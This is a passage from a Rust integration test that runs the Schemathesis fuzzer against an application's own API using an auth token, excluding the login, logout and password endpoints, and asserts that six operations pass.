        .args(["-H", &format!("Authorization: Bearer {}", app.token)])
        .args([
            "--checks",
            "all",
            "--exclude-checks",
            "positive_data_acceptance",
        ])
        .args([
            "--phases",
            "examples,coverage,fuzzing",
            "--max-examples",
            "25",
        ])
        .args(["--workers", "1", "--seed", "1"])
        .args([
            "--exclude-path",
            "/api/login",
            "--exclude-path",
            "/api/logout",
        ])
        .args(["--exclude-path", "/api/password"])
        .current_dir(&work)
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    let said = text(&out);
    std::fs::remove_dir_all(&work).ok();
    assert!(out.status.success(), "schemathesis:\n{said}");
    assert!(said.contains("Tested: 6"), "{said}");
}
